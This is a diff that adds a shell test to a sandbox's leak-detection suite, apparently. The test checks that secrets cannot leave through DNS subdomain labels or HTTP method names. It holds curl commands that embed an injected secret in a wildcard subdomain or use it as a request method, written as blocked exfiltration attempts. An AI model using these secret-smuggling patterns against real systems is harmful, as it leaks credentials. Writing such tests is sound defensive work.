@@ -203,6 +203,34 @@ S10_a_token_is_no_leave_to_name_the_secret() {
   is "by name" "$(count_events event=request path=/named header:x-key=value-of-the-key)" 1
 }
 
+S03_names_and_methods_carry_no_value_out() {
+  network process process.yaml allowlist '*.wild.example.com'
+  sed -i 's/^  resource/    secrets: {injection: environment, leak_detection: {enabled: true}}\n&/' \
+    process.yaml
+  printf 'value-of-the-key' >value
+  run secret set KEY --file value --host api.example.com --grant any
+  printf 'VALUE-LETTERS' >value
+  run secret set LETTERS --file value --host api.example.com --grant any
+  expect_status 0
+  net_reset
+  # What is in a tunnel is not looked at, by leave; but who is called is said outside of it.
+  run run --waive tunnel-scan --policy process.yaml --secret KEY -- sh -c '
+    curl -skm 9 "https://$KEY.wild.example.com/"
+    curl -skm 9 --noproxy "*" "https://x$KEY.wild.example.com/"'
+  is "queries" "$(count_queries)" 0
+  is "connections" "$(count_connections)" 0
+  run audit tail --json -n 1
+  expect_out_has '"code":"leak"'
+  expect_out_lacks value-of-the-key
+  run run --policy process.yaml --secret LETTERS -- sh -c '
+    curl -sm 9 -X "$LETTERS" http://a.wild.example.com/; :'
+  is "methods" "$(count_connections)" 0
+  run run --waive tunnel-scan --policy process.yaml --secret KEY -- \
+    curl -skm 9 https://a.wild.example.com/
+  expect_status 0
+  is "the control's connections" "$(count_connections)" 1
+}
+
 N13_https_never_goes_down_to_http() {
   both allowlist api.example.com
   ask wasm 'https://api.example.com/redirect?to=http://api.example.com/x'
